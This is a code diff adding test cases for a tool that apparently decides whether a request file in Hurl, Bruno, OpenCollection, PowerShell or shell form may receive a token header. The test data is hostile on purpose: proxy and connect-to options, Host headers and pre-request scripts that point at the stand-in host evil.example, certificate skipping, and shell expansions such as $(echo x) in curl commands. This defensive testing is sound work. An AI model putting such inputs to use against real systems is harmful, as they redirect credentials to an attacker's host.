@@ -151,6 +151,179 @@ describe('who may get the header', () => {
     });
   });
 
+  describe('in other files than those of REST clients', () => {
+    const url = `${at}/config/clients`;
+    const evil = 'https://evil.example';
+    const hurl = (rest: string) => `GET ${url}\n${rest}\nHTTP 200\n`;
+    const bru = (rest: string) => `get {\n  url: ${url}\n}\n\n${rest}\n`;
+    const yaml = (rest: string) => `info:\n  type: http\nhttp:\n  method: GET\n  url: ${url}\n${rest}\n`;
+    const headers = (name: string, value: string, more = '') =>
+      yaml(`  headers:\n    - name: ${name}\n      value: ${value}${more}`);
+    const rows: readonly [
+      title: string,
+      format: RequestFormat,
+      text: string,
+      reference: RegExp,
+      token: RegExp,
+    ][] = [
+      ...[
+        'proxy: evil.example:8080',
+        'connect-to: a:443:evil.example:443',
+        'resolve: a:443:6.6.6.6',
+        'unix-socket: /tmp/x',
+        'location-trusted: true',
+        'insecure: true',
+      ].map((option): [string, RequestFormat, string, RegExp, RegExp] => [
+        'an option',
+        hurlFormat,
+        hurl(`[Options]\n${option}`),
+        /^unknown 0: its options have/,
+        /^unknown/,
+      ]),
+      [
+        'options that change nothing',
+        hurlFormat,
+        hurl('[Options]\nlocation: true\nretry: 2'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      ['a name with escapes', hurlFormat, hurl('Ho\\u{73}t: evil.example'), /^unknown/, /^unknown/],
+      ['a Host header', brunoFormat, bru('headers {\n  Host: evil.example\n}'), /^stray/, /^stray/],
+      [
+        'a Host header that is off',
+        brunoFormat,
+        bru('headers {\n  ~Host: evil.example\n}'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      [
+        'a script',
+        brunoFormat,
+        bru(`script:pre-request {\n  req.setUrl("${evil}/x")\n}`),
+        /^unknown .*script/,
+        /^unknown/,
+      ],
+      [
+        'a script behind the answer',
+        brunoFormat,
+        bru('script:post-response {\n  x()\n}'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      ['a Host header', openCollectionFormat, headers('Host', 'evil.example'), /^stray/, /^stray/],
+      [
+        'a Host header with escapes',
+        openCollectionFormat,
+        headers('"H\\u006fst"', 'evil.example'),
+        /^stray/,
+        /^stray/,
+      ],
+      [
+        'a Host header that is off',
+        openCollectionFormat,
+        headers('Host', 'evil.example', '\n      disabled: true'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      [
+        'headers on one line',
+        openCollectionFormat,
+        yaml('  headers: [{name: Host, value: evil.example}]'),
+        /^unknown/,
+        /^unknown/,
+      ],
+      [
+        'other headers',
+        openCollectionFormat,
+        headers('Accept', 'application/json'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      [
+        'a script',
+        openCollectionFormat,
+        yaml('runtime:\n  scripts:\n    - type: before-request\n      code: x()'),
+        /^unknown .*script/,
+        /^unknown/,
+      ],
+      [
+        'scripts on one line',
+        openCollectionFormat,
+        yaml('runtime: {scripts: [{type: before-request}]}'),
+        /^unknown .*script/,
+        /^unknown/,
+      ],
+      [
+        'a script behind the answer',
+        openCollectionFormat,
+        yaml('runtime:\n  scripts:\n    - type: after-response\n      code: x()'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      [
+        'a proxy',
+        powershellFormat,
+        `irm ${url} -Proxy http://evil.example:8080\n`,
+        /^unknown 0: its command has -Proxy/,
+        /^unknown/,
+      ],
+      [
+        'a certificate that nobody checks',
+        powershellFormat,
+        `irm ${url} -SkipCert\n`,
+        /^unknown/,
+        /^unknown/,
+      ],
+      [
+        'a Host header',
+        powershellFormat,
+        `irm ${url} -Headers @{ Host = 'evil.example' }\n`,
+        /^stray/,
+        /^stray/,
+      ],
+      [
+        'other parameters',
+        powershellFormat,
+        `irm ${url} -PassThru -Method Get -OutFile x -Headers @{ Accept = 'a' }\n`,
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      ['braces', posixFormat, `curl ${url} -o {a,${evil}/x}\n`, /^unknown 0: the shell may make/, /^unknown/],
+      [
+        'braces that are quoted',
+        posixFormat,
+        `curl ${url} -d '{a,${evil}/x}' -w %{http_code}\n`,
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      ...['$X', '$(echo x)', '"$@"', '"${a[@]}"', '*', 'x$IFS"y"'].map(
+        (word): [string, RequestFormat, string, RegExp, RegExp] => [
+          'words of the shell',
+          posixFormat,
+          `curl ${url} -o ${word}\n`,
+          word.startsWith('"') ? /^$|^changed 1$/ : /^changed 1$/,
+          /^unknown 0: the shell may make|^$/,
+        ],
+      ),
+      ['a variable in quotes', posixFormat, `curl "${url}?a=b" -o "$FILE"\n`, /^changed 1$/, /^changed 1$/],
+      ['a query', posixFormat, `curl ${url}?a=b\n`, /^changed 1$/, /^changed 1$/],
+      [
+        'a variable',
+        powershellFormat,
+        `curl.exe ${url} -o $file\n`,
+        /^changed 1$/,
+        /^unknown 0: the shell may make/,
+      ],
+      ['an argument', cmdFormat, `curl -o %1 ${url}\n`, /^changed 1$/, /^unknown 0: the shell may make/],
+    ];
+    for (const [title, format, text, reference, token] of rows) {
+      it(`${title}: ${text.trim()}`, () => {
+        assert.match(outcome(format, text), reference, 'the reference');
+        assert.match(outcome(format, text, { isLiteral: true }), token, 'the token');
+      });
+    }
+  });
+
   it('all but the token requests of the example', () => {
     const example = exampleFor(acme);
     assert.match(outcome(http, example, { cursors: [0] }), /^$|changed/);
